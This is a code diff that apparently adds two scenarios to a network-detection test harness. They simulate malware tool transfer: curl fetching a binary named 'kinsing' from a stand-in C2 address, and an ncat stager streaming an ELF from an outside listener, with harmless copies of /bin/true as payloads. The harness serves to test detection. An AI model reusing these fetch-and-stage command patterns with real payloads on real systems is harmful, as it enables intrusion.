@@ -352,6 +352,38 @@ def _http_on_443(node: Node, work: Path) -> None:
     _http_check_ins(node, work, 443, count=3, period_s=0.5)
 
 
+def _tool_download(node: Node, work: Path) -> None:
+    """Kinsing's first step: ``curl`` in the victim fetches a binary (a copy of /bin/true) over plain HTTP
+    from python -m http.server on a host outside."""
+    node.add_address("c2", C2_IP)
+    (work / "drop").mkdir()
+    shutil.copy("/bin/true", work / "drop" / "kinsing")
+    server = _serve_http(node, "c2", C2_IP, 80, work / "drop")
+    try:
+        time.sleep(1.0)
+        node.run("victim", "curl", "-sf", "--max-time", "10", "-o", str(work / "kinsing.got"),
+                 f"http://{C2_IP}/kinsing", check=True, capture_output=True, timeout=30)
+    finally:
+        _stop(server)
+
+
+def _tool_stream(node: Node, work: Path) -> None:
+    """A stager's shape: the victim connects to an ncat listener outside, which sends it an ELF (a copy of
+    /bin/true) over the raw stream and closes."""
+    node.add_address("c2", C2_IP)
+    stage = work / "stage"
+    shutil.copy("/bin/true", stage)
+    with stage.open("rb") as source:
+        server = node.start("c2", "ncat", "-l", C2_IP, "4446", "--send-only", stdin=source, **QUIET)
+    try:
+        time.sleep(1.0)
+        with (work / "stage.got").open("wb") as got:
+            node.run("victim", "ncat", "--recv-only", C2_IP, "4446", stdout=got, stderr=subprocess.DEVNULL,
+                     check=True, timeout=30)
+    finally:
+        _stop(server)
+
+
 def _wait_for(ready: Callable[[], bool], seconds: float) -> None:
     end = time.monotonic() + seconds
     while not ready():
@@ -400,6 +432,10 @@ SCENARIOS = (
              "198.51.100.50:80", "unusual_destination", "implant", ("implant", "c2"), _rat_on_port_80, ("socat",)),
     Scenario("cleartext HTTP on 443", "HTTP check-in every 0.5 s +-20%, 3 times, to python -m http.server on "
              "198.51.100.50:443", "unusual_destination", "implant", ("implant", "c2"), _http_on_443),
+    Scenario("ELF download over HTTP", "curl http://198.51.100.50/kinsing (a copy of /bin/true) from python -m "
+             "http.server", "tool_transfer", "victim", ("victim", "c2"), _tool_download, ("curl",)),
+    Scenario("ELF over a raw stream", "ncat --recv-only to ncat -l --send-only on 198.51.100.50:4446 sending a copy "
+             "of /bin/true", "tool_transfer", "victim", ("victim", "c2"), _tool_stream, ("ncat",)),
 )
 
 
